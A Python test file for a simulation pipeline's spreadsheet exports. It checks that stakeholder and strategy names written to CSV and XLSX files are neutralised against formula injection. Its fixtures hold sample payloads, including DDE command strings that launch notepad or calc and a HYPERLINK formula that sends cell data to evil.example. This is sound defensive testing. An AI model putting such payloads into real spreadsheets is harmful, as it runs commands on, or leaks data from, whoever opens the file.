"""Safe files: names from a hostile stakeholder table never reach a CSV or XLSX cell as a formula.

A spreadsheet runs a cell starting with = + - @ (or a tab or carriage return) as a formula (OWASP, CSV
injection); every writer neutralises such a cell with a leading quote. These tests run the whole pipeline
(template, run, compare, sweep, the dashboard's comparison export) with a table whose stakeholders and
strategy are named like attacks, then read back every CSV and XLSX produced.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from model import alliance_table as at
from model.alliance_table.safe_cells import FORMULA_STARTS, neutralise, safe_csv, unquote

from .conftest import SMALL, SMALL_TIES, scenario_for

HOSTILE = {  # the SMALL table's names -> names a spreadsheet would run
    "Project office": "=cmd|' /C notepad'!A0",  # the initiator: events start with its name
    "Water ministry": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "Lake district water office": "+SUM(1,2)",
    "Hill district NGO": "@cmd|' /C calc'!A0",
    "Lake women's group": "-2+3",
    "Lake villages": "\t=1+1",
}


def hostile_table(folder: Path) -> Path:
    """SMALL with its names replaced by HOSTILE ones, written with the csv module (the names hold commas and
    quotes)."""
    def rewrite(text: str) -> str:
        rows = list(csv.reader(io.StringIO("\n".join(line.strip() for line in text.strip().splitlines()))))
        out = io.StringIO()
        writer = csv.writer(out, lineterminator="\n")
        for row in rows:
            writer.writerow([HOSTILE.get(cell, cell) for cell in row])
        return out.getvalue()

    path = folder / "hostile.csv"
    path.write_text(rewrite(SMALL), encoding="utf-8")
    (folder / "hostile.ties.csv").write_text(rewrite(SMALL_TIES), encoding="utf-8")
    return path


def is_number(cell: str) -> bool:
    """A negative number is a number to a spreadsheet, not a formula."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


def formula_cells(folder: Path) -> list[str]:
    """Every cell of every CSV and XLSX under ``folder`` that a spreadsheet would run as a formula."""
    found = []
    for path in sorted(folder.rglob("*.csv")):
        for n, row in enumerate(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))), start=1):
            found += [f"{path.name} row {n}: {cell!r}" for cell in row
                      if cell.startswith(FORMULA_STARTS) and not is_number(cell)]
    for path in sorted(folder.rglob("*.xlsx")):
        import openpyxl

        book = openpyxl.load_workbook(path)  # not data_only: a formula cell reads as its formula
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)):
                        found.append(f"{path.name} {sheet.title}!{cell.coordinate}: {cell.value!r}")
    return found


def test_the_neutraliser_follows_owasp_at_each_first_character():
    for start in "=+-@\t\r":
        assert neutralise(f"{start}x") == f"'{start}x"
        assert unquote(neutralise(f"{start}x")) == f"{start}x"
    for safe in ("Water ministry", "'quoted", "a=b", "", " =1"):
        assert neutralise(safe) == safe and unquote(safe) == safe
    assert neutralise(-2.5) == -2.5  # a number is a number, not a formula
    import pandas as pd

    text = safe_csv(pd.DataFrame({"=name": ["=1+1", "ok"], "value": [-1.5, 2.0]}))
    assert text.splitlines() == ["'=name,value", "'=1+1,-1.5", "ok,2.0"]


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_a_hostile_table_round_trips_through_the_template_writer_as_text(tmp_path, suffix):
    table = at.load_table(hostile_table(tmp_path))
    assert set(HOSTILE.values()) - {HOSTILE["Lake villages"]} <= set(table.names)
    rows = [{"name": name, "type": "ministry_water", "level": "national"} for name in table.names[:4]]
    ties = [{"from": table.names[0], "to": table.names[1], "trust": 0.5}]
    out = tmp_path / "out"
    out.mkdir()
    written = at.write_table(out / f"copy{suffix}", rows, ties, ["=guide line"])
    assert formula_cells(out) == [], "a name reached a spreadsheet as a formula"
    # and the names come back as they were (the reader takes the quote off)
    raw, raw_ties, *_ = at.reading.read_sheets(written[0])
    assert [cells[0] for _, cells in raw[1:]] == table.names[:4]


def test_run_on_a_hostile_table_writes_no_formula(mus, tmp_path):
    hostile_table(tmp_path)
    scenario = scenario_for(tmp_path, "hostile.csv")
    rc, _, stderr = mus("run", scenario, "--replicates", 2, "--steps", 12, "--out", tmp_path / "run", "--quiet")
    assert rc == 0, stderr
    events = (tmp_path / "run" / "events.csv").read_text(encoding="utf-8")
    assert "\n0,1,0,initiation,'=cmd|' /C notepad'!A0 initiated" in events  # the name, neutralised
    assert formula_cells(tmp_path / "run") == []


def test_the_whole_pipeline_on_a_hostile_table_writes_no_formula(mus, tmp_path):
    hostile_table(tmp_path)
    scenario = scenario_for(tmp_path, "hostile.csv")
    strategy = tmp_path / "evil.toml"
    strategy.write_text("[strategy]\nname = '=HYPERLINK(\"http://evil.example\")'\n"
                        "description = '@cmd|calc'\n[settings]\nguidance = 0.9\n", encoding="utf-8")
    rc, _, stderr = mus("compare", "business-as-usual", strategy, "--base", scenario, "--replicates", 2,
                        "--steps", 12, "--workers", 1, "--out", tmp_path / "cmp", "--quiet")
    assert rc == 0, stderr
    spec = tmp_path / "study.toml"
    spec.write_text(f'method = "ofat"\nbase = "{scenario}"\nN = 2\nsteps = 3\noutputs = ["uptake_final"]\n'
                    '[factors]\nguidance = {}\n')
    rc, _, stderr = mus("sweep", spec, "--out", tmp_path / "study", "--workers", 1, "--no-progress")
    assert rc == 0, stderr

    from dashboard.compare import Contender, compare_scenarios, comparison_csv, summary_csv

    table = at.load_table(tmp_path / "hostile.csv")
    comparison = compare_scenarios(Contender("=HYPERLINK(\"x\")", table.params(), steps=6),
                                   Contender("@cmd|' /C calc'!A0", table.params(), steps=6), 2, 6)
    export = tmp_path / "dashboard"
    export.mkdir()
    (export / "bands.csv").write_bytes(comparison_csv(comparison))
    (export / "summary.csv").write_bytes(summary_csv(comparison))
    produced = sorted(p.name for p in tmp_path.rglob("*.csv"))
    assert len(produced) > 10, produced
    assert formula_cells(tmp_path / "cmp") == []
    assert formula_cells(tmp_path / "study") == []
    assert formula_cells(export) == []
    assert "'=HYPERLINK" in (tmp_path / "cmp" / "runs.csv").read_text(encoding="utf-8")  # the strategy's name
